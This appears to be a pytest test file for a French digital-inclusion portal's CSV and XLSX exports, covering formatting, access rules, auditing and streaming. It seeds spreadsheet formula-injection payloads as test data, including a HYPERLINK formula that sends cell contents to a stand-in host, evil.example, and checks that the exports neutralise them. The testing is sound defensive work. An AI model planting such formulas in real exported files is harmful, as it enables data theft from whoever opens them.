"""Exports (no HTTP): the rows of each export on a known dataset, the CSV for French Excel
(BOM, ``;``, decimal comma, dd/mm/yyyy, formulas made inert), the XLSX read back with openpyxl,
access, audit, and streaming (memory stays flat for a large period).

The dataset is November 2026 at the site MER, with a workshop on Tuesday 10 November at 14:00
(Paris), individual help on the 12th, and what must stay out: another site, October, December.
"""

from __future__ import annotations

import csv
import io
import tracemalloc
from dataclasses import dataclass
from datetime import UTC, date, datetime, timedelta
from decimal import Decimal

import openpyxl
import pytest
from flask_babel import force_locale
from sqlalchemy import insert

from portal.extensions import db
from portal.models import AuditEvent, Booking, Cheque, Document
from portal.models.bookings import Accompaniment, AccompanimentSubtheme, AccompanimentTheme
from portal.models.catalogue import WorkshopTheme
from portal.models.people import Beneficiary
from portal.models.vocab import (
    AdminSubtheme,
    Autonomy,
    BookingStatus,
    DocumentKind,
    Equipment,
    Gender,
    PlaceType,
    SocialStatus,
    StaffRole,
    Theme,
)
from portal.services import exports, periods
from portal.services.errors import NotAllowed, NotFound, ValidationFailed
from portal.services.exports import Format, Kind, Scope, Table
from portal.services.exports.writers import BOM, csv_chunks, write_xlsx
from tests.services.scene import programme

pytestmark = pytest.mark.usefixtures("frozen")

NOVEMBER = periods.month(date(2026, 11, 1))
PAYLOADS = ['=HYPERLINK("http://evil.example/?x="&A1,"cliquez")', "+1", "-1+1", "@SUM(A1:A9)",
            "\t=1+1", "\r=1"]
AWKWARD = 'Dupont; "dit le Grand"\net fils'


@dataclass
class Scene:
    site: object
    other: object
    staff: object
    session_id: int
    present: Beneficiary
    absent: Beneficiary


def utc(*args: int) -> datetime:
    return datetime(*args, tzinfo=UTC)


@pytest.fixture
def scene(factory, site, staff) -> Scene:
    other = factory.site(code="AUT", name="Autre lieu")
    aptic = programme()
    workshop = factory.workshop(title="Envoyer un e-mail", equipment=Equipment.COMPUTER,
                                theme_links=[WorkshopTheme(theme=Theme.EMAIL),
                                             WorkshopTheme(theme=Theme.BROWSING)])
    start = utc(2026, 11, 10, 13, 0)  # 14:00 in Paris
    session = factory.session(site, workshop, starts_at=start, ends_at=start + timedelta(
        minutes=90), animator_id=staff.id)
    present = factory.beneficiary(site, first_name=PAYLOADS[0], last_name=AWKWARD,
                                  birth_year=1960, commune="Lens", postcode="62300",
                                  gender=Gender.FEMALE, social_status=SocialStatus.RETIRED)
    absent = factory.beneficiary(site, first_name="Jean", last_name="-1+1")
    booking = factory.booking(session, present, BookingStatus.PRESENT,
                              checked_in_at=utc(2026, 11, 10, 13, 5))
    factory.booking(session, absent, BookingStatus.ABSENT)
    # Sunday 1 November 00:30 in Paris is still November; 1 December 00:30 in Paris is not.
    early = factory.session(site, workshop, starts_at=utc(2026, 10, 31, 23, 30),
                            ends_at=utc(2026, 11, 1, 1, 0))
    late = factory.session(site, workshop, starts_at=utc(2026, 11, 30, 23, 30),
                           ends_at=utc(2026, 12, 1, 1, 0))
    elsewhere = factory.session(other, workshop, starts_at=start, ends_at=start + timedelta(
        hours=1))
    factory.booking(early, absent, BookingStatus.PRESENT)
    factory.booking(late, present, BookingStatus.PRESENT)
    away = factory.booking(elsewhere, factory.beneficiary(other, first_name="Ailleurs"),
                           BookingStatus.PRESENT)
    helped = Accompaniment(site_id=site.id, staff_id=staff.id, started_at=utc(2026, 11, 12, 9),
                           duration_minutes=45, place_type=PlaceType.HOME,
                           equipment=Equipment.PHONE, autonomy=Autonomy.PARTLY,
                           summary="@SUM(A1) impôts", gender=Gender.MALE, age_bracket="60-69",
                           social_status=SocialStatus.RETIRED, commune="Liévin",
                           postcode="62800", referred=True, referred_to="CAF",
                           theme_links=[AccompanimentTheme(theme=Theme.ADMIN_PROCEDURES)],
                           subtheme_links=[AccompanimentSubtheme(subtheme=AdminSubtheme.MONEY)])
    db.session.add(helped)
    db.session.flush()
    receipt = Document(kind=DocumentKind.RECEIPT, site_id=site.id, year=2026, sequence=7,
                       number="REC-2026-MER-000007", title="Reçu")
    db.session.add(receipt)
    db.session.flush()
    db.session.add_all([
        Cheque(programme_id=aptic.id, number="6207261100", value_cents=1000, site_id=site.id,
               redeemed_at=utc(2026, 11, 10, 13, 10), redeemed_by_id=staff.id,
               booking_id=booking.id, receipt_id=receipt.id),
        Cheque(programme_id=aptic.id, number="6207261101", value_cents=1250, site_id=site.id,
               redeemed_at=utc(2026, 11, 12, 9, 30), redeemed_by_id=staff.id,
               accompaniment_id=helped.id),
        Cheque(programme_id=aptic.id, number="6207261102", value_cents=1000, site_id=other.id,
               redeemed_at=utc(2026, 11, 10, 13, 10), booking_id=away.id),
        Cheque(programme_id=aptic.id, number="6207261103", value_cents=1000, site_id=site.id,
               redeemed_at=utc(2026, 12, 1, 9, 0), accompaniment_id=helped.id),
    ])
    db.session.commit()
    return Scene(site, other, staff, session.id, present, absent)


def rows_of(kind: Kind, scope: Scope, period=NOVEMBER) -> list[list[object]]:
    return [list(row) for row in exports.table(kind, scope, period).rows]


def read_csv(table: Table) -> tuple[bytes, list[list[str]]]:
    data = b"".join(csv_chunks(table))
    text = data.decode("utf-8")
    assert text.startswith(BOM)
    return data, list(csv.reader(io.StringIO(text[1:], newline=""), delimiter=";"))


# --- each export's rows -------------------------------------------------------------------

def test_attendance_has_one_row_per_booking_of_the_periods_sessions(app, scene):
    table = exports.table(Kind.ATTENDANCE, Scope.of(scene.site), NOVEMBER)
    assert table.headers[:4] == ["Date", "Heure", "Lieu", "Atelier"]
    rows = [list(row) for row in table.rows]
    assert rows == [
        [date(2026, 11, 1), "00:30", "Cyberbase de Méricourt", "Envoyer un e-mail", "Jean",
         "-1+1", "Présent", "", 0, Decimal("0.00")],
        [date(2026, 11, 10), "14:00", "Cyberbase de Méricourt", "Envoyer un e-mail",
         PAYLOADS[0], AWKWARD, "Présent", "14:05", 1, Decimal("10.00")],
        [date(2026, 11, 10), "14:00", "Cyberbase de Méricourt", "Envoyer un e-mail", "Jean",
         "-1+1", "Absent", "", 0, Decimal("0.00")],
    ]
    assert exports.count(Kind.ATTENDANCE, Scope.of(scene.site), NOVEMBER) == 3
    assert exports.count(Kind.ATTENDANCE, Scope.of(None), NOVEMBER) == 4


def test_the_activity_log_has_one_row_per_accompaniment_in_the_national_models_fields(
        app, scene):
    table = exports.table(Kind.ACTIVITIES, Scope.of(scene.site), NOVEMBER)
    assert "Thématique(s) d'accompagnement" in table.headers
    rows = [dict(zip(table.headers, row, strict=True)) for row in table.rows]
    # two people present at workshops (the 1st and the 10th), one individual help
    assert [(r["Date"], r["Type"]) for r in rows] == [
        (date(2026, 11, 1), "Collectif"), (date(2026, 11, 10), "Collectif"),
        (date(2026, 11, 12), "Individuel")]
    workshop, helped = rows[1], rows[2]
    assert workshop["Durée (min)"] == 90
    assert workshop["Nom de l'atelier"] == "Envoyer un e-mail"
    assert workshop["Thématique(s) d'accompagnement"] == "E-mail, Navigation sur internet"
    assert workshop["Matériel numérique utilisé"] == "Ordinateur"
    assert workshop["Niveau d'autonomie (ou de l'atelier)"] == "1/3 (Débutant)"
    assert (workshop["Commune de résidence"], workshop["Code postal"]) == ("Lens", "62300")
    assert (workshop["Genre"], workshop["Tranche d'âge"], workshop["Statut"]) == (
        "Féminin", "60 à 69 ans", "Retraité")
    assert workshop["Membre de l'équipe"] == "Claire Martin"
    assert rows[0]["Tranche d'âge"] == "Non communiqué"
    assert helped["Canal d'accompagnement"] == "À domicile"
    assert helped["Durée (min)"] == 45
    assert helped["Thématique(s) d'accompagnement"] == "Aide aux démarches administratives"
    assert helped["Démarche administrative"] == "Argent - Impôts"
    assert helped["Niveau d'autonomie (ou de l'atelier)"] == (
        "2/3 (Autonome avec guidage en cas de besoin)")
    assert (helped["Bénéficiaire réorienté"], helped["Structure de redirection"]) == (
        "Oui", "CAF")
    assert (helped["Bénéficiaire"], helped["Commune de résidence"], helped["Genre"],
            helped["Tranche d'âge"]) == ("", "Liévin", "Masculin", "60 à 69 ans")
    assert helped["Nom de l'atelier"] == "" and workshop["Objet de l'aide individuelle"] == ""
    assert helped["Objet de l'aide individuelle"]
    assert exports.count(Kind.ACTIVITIES, Scope.of(scene.site), NOVEMBER) == 3


def test_each_cell_has_its_own_vocabularys_word_though_values_are_shared(app, scene):
    """A year's export translates each word once (tens of labels for hundreds of thousands of
    rows), yet "other" is a place ("Autre lieu") and an equipment ("Autre"): neither takes the
    other's word, in French or in English."""
    db.session.add(Accompaniment(site_id=scene.site.id, staff_id=scene.staff.id,
                                 started_at=datetime(2026, 11, 20, 9, tzinfo=UTC),
                                 duration_minutes=20, place_type=PlaceType.OTHER,
                                 equipment=Equipment.OTHER))
    db.session.commit()
    for language, place, equipment in (("fr", "Autre lieu", "Autre"),
                                       ("en", "Somewhere else", "Other")):
        with force_locale(language):
            table = exports.table(Kind.ACTIVITIES, Scope.of(scene.site), NOVEMBER)
            rows = [dict(zip(table.headers, row, strict=True)) for row in table.rows]
        other = rows[-1]
        assert (other[table.headers[3]], other[table.headers[6]]) == (place, equipment)
        assert place != equipment


def test_cheques_of_the_month_with_their_service_and_receipt(app, scene):
    rows = rows_of(Kind.CHEQUES, Scope.of(scene.site))
    assert rows == [
        ["6207261100", "APTIC Pas-de-Calais 2026", Decimal("10.00"), date(2026, 11, 10),
         "14:10", "Cyberbase de Méricourt", "Envoyer un e-mail", "Claire Martin",
         "REC-2026-MER-000007"],
        ["6207261101", "APTIC Pas-de-Calais 2026", Decimal("12.50"), date(2026, 11, 12),
         "10:30", "Cyberbase de Méricourt", "Aide individuelle : @SUM(A1) impôts",
         "Claire Martin", ""],
    ]
    assert len(rows_of(Kind.CHEQUES, Scope.of(None))) == 3


def test_people_of_a_site_leave_out_anonymised_and_merged_records(app, factory, scene):
    factory.beneficiary(scene.site, first_name="Effacée", anonymised_at=utc(2026, 1, 1))
    factory.beneficiary(scene.site, first_name="Doublon", merged_into_id=scene.absent.id)
    rows = rows_of(Kind.PEOPLE, Scope.of(scene.site))
    assert [row[1] for row in rows] == ["Jean", PAYLOADS[0]]
    assert rows[1][5:10] == [1960, "Lens", "62300", "Féminin", "Retraité"]
    assert exports.count(Kind.PEOPLE, Scope.of(scene.site), NOVEMBER) == 2


# --- CSV ------------------------------------------------------------------------------------

def typed_table() -> Table:
    return Table(["Texte", "Entier", "Montant", "Jour"],
                 iter([[payload, -3, Decimal("12.50"), date(2026, 11, 3)]
                       for payload in [*PAYLOADS, AWKWARD, "Zoé"]]))


def test_csv_opens_in_french_excel_and_neutralises_formulas(app):
    data, rows = read_csv(typed_table())
    assert data.startswith(b"\xef\xbb\xbfTexte;Entier;Montant;Jour\r\n")
    assert rows[0] == ["Texte", "Entier", "Montant", "Jour"]
    for row, payload in zip(rows[1:7], PAYLOADS, strict=True):
        assert row == ["'" + payload, "-3", "12,50", "03/11/2026"]
        assert not row[0].startswith(("=", "+", "-", "@", "\t", "\r"))
    # quotes, semicolons and newlines survive a round trip through a CSV reader
    assert rows[7][0] == AWKWARD
    assert rows[8][0] == "Zoé"
    assert b"\r\n" in data and data.count(b"\r\n") == 9  # the awkward name's own \n is quoted


def test_csv_of_an_export_neutralises_names_typed_at_the_desk(app, scene):
    _data, rows = read_csv(exports.table(Kind.ATTENDANCE, Scope.of(scene.site), NOVEMBER))
    assert rows[2][:6] == ["10/11/2026", "14:00", "Cyberbase de Méricourt",
                           "Envoyer un e-mail", "'" + PAYLOADS[0], AWKWARD]
    assert rows[1][5] == "'-1+1"
    assert rows[2][8:] == ["1", "10,00"]


# --- XLSX -----------------------------------------------------------------------------------

def test_xlsx_reads_back_typed_with_formulas_left_as_text(app, tmp_path):
    path = tmp_path / "export.xlsx"
    assert write_xlsx(typed_table(), str(path)) == 8
    book = openpyxl.load_workbook(path)
    sheet = book.active
    assert [cell.value for cell in sheet[1]] == ["Texte", "Entier", "Montant", "Jour"]
    assert sheet["A1"].font.bold
    assert sheet.freeze_panes == "A2"
    assert sheet.auto_filter.ref == "A1:D9"
    for number, payload in enumerate(PAYLOADS, start=2):
        cell = sheet.cell(number, 1)
        # (XlsxWriter stores a carriage return as _x000D_, which openpyxl leaves as is)
        assert cell.data_type == "s" and cell.value.replace("_x000D_", "\r") == payload
    assert sheet["A8"].value == AWKWARD
    assert sheet["B2"].value == -3 and sheet["B2"].data_type == "n"
    assert sheet["C2"].value == 12.5
    assert sheet["D2"].value.date() == date(2026, 11, 3) and sheet["D2"].is_date


def test_xlsx_of_the_activity_log(app, scene, tmp_path):
    path = tmp_path / "activites.xlsx"
    write_xlsx(exports.table(Kind.ACTIVITIES, Scope.of(scene.site), NOVEMBER), str(path))
    sheet = openpyxl.load_workbook(path).active
    assert sheet.max_row == 4
    assert sheet["A3"].value.date() == date(2026, 11, 10)
    assert sheet["E3"].value == 90
    assert sheet["M3"].value == f"{PAYLOADS[0]} {AWKWARD}"
    assert sheet["M3"].data_type == "s"


# --- access and audit -------------------------------------------------------------------------

def test_scope_needs_export_data_there_and_see_people_for_people(app, factory, scene):
    animateur = scene.staff
    assert exports.scope_for(animateur, Kind.CHEQUES, "").site_id == scene.site.id
    assert exports.scope_for(animateur, Kind.PEOPLE, str(scene.site.id)).site_id == \
        scene.site.id
    with pytest.raises(NotFound):
        exports.scope_for(animateur, Kind.ATTENDANCE, str(scene.other.id))
    with pytest.raises(NotAllowed):
        exports.scope_for(animateur, Kind.ATTENDANCE, exports.NETWORK)
    reception = factory.staff(scene.site, StaffRole.RECEPTION)
    with pytest.raises(NotAllowed):
        exports.scope_for(reception, Kind.ATTENDANCE, str(scene.site.id))
    network = factory.staff(is_network_admin=True)
    assert exports.scope_for(network, Kind.PEOPLE, exports.NETWORK).is_network
    assert exports.scope_for(network, Kind.PEOPLE, str(scene.other.id)).site_id == \
        scene.other.id
    with pytest.raises(ValidationFailed):
        exports.scope_for(network, Kind.PEOPLE, "")
    with pytest.raises(ValidationFailed):
        exports.parse_kind("tout")


def test_an_export_is_audited_without_personal_data(app, scene, actor):
    exports.record(actor, Kind.ATTENDANCE, Scope.of(scene.site), NOVEMBER, exports.Format.CSV, 3)
    event = db.session.scalars(db.select(AuditEvent).where(
        AuditEvent.action == "export.attendance")).one()
    assert event.site_id == scene.site.id
    assert event.details == {"format": "csv", "rows": 3, "first": "2026-11-01",
                             "last": "2026-11-30"}


# --- streaming --------------------------------------------------------------------------------

@pytest.fixture
def large_period(app, factory, site) -> int:
    """20 000 bookings in November (40 sessions of 500 people), inserted in bulk."""
    workshop = factory.workshop(title="Atelier très suivi")
    people = 500
    db.session.execute(insert(Beneficiary), [
        {"first_name": f"Prénom {n}", "last_name": f"Nom de famille assez long {n}",
         "login_id": f"L{n:07d}", "home_site_id": site.id} for n in range(people)])
    ids = list(db.session.scalars(db.select(Beneficiary.id).where(
        Beneficiary.login_id.like("L%")).order_by(Beneficiary.id)))
    total = 0
    for day in range(40):
        start = utc(2026, 11, 1 + day % 28, 8 + day // 28 * 3, 0)
        session = factory.session(site, workshop, starts_at=start,
                                  ends_at=start + timedelta(hours=2), capacity=500)
        db.session.execute(insert(Booking), [
            {"session_id": session.id, "beneficiary_id": person, "code": f"G{day:02d}{n:05d}",
             "status": BookingStatus.ABSENT} for n, person in enumerate(ids)])
        total += len(ids)
    db.session.commit()
    return total


def _peak(consume) -> int:
    db.session.expire_all()
    tracemalloc.start()
    try:
        consume()
        return tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()


def test_memory_stays_flat_while_a_large_export_streams(app, site, large_period):
    assert exports.count(Kind.ATTENDANCE, Scope.of(site), NOVEMBER) == large_period

    def stream() -> None:
        seen = 0
        for chunk in csv_chunks(exports.table(Kind.ATTENDANCE, Scope.of(site), NOVEMBER)):
            seen += chunk.count(b"\r\n")
        assert seen == large_period + 1

    def as_list() -> None:
        rows = list(exports.table(Kind.ATTENDANCE, Scope.of(site), NOVEMBER).rows)
        assert len(rows) == large_period

    streamed, listed = _peak(stream), _peak(as_list)
    # the rows held at once are a batch, not the period: a list of them all costs far more
    assert streamed < listed / 4, (streamed, listed)
    assert streamed < 4 * 1024 * 1024, streamed


def test_the_first_rows_come_before_the_query_is_read_to_the_end(app, site, large_period):
    rows = exports.table(Kind.ATTENDANCE, Scope.of(site), NOVEMBER).rows
    tracemalloc.start()
    try:
        first = next(iter(rows))
        after_first = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    assert first[4] == "Prénom 0"
    assert after_first < 4 * 1024 * 1024, after_first
    rows.close()


def test_an_xlsx_larger_than_a_sheet_is_refused_in_words_and_csv_is_not(app):
    exports.check_size(Format.XLSX, exports.XLSX_MAX_ROWS)
    exports.check_size(Format.CSV, exports.XLSX_MAX_ROWS + 1)
    with pytest.raises(ValidationFailed) as refused:
        exports.check_size(Format.XLSX, exports.XLSX_MAX_ROWS + 1)
    assert "CSV" in refused.value.details["fields"]["format"]
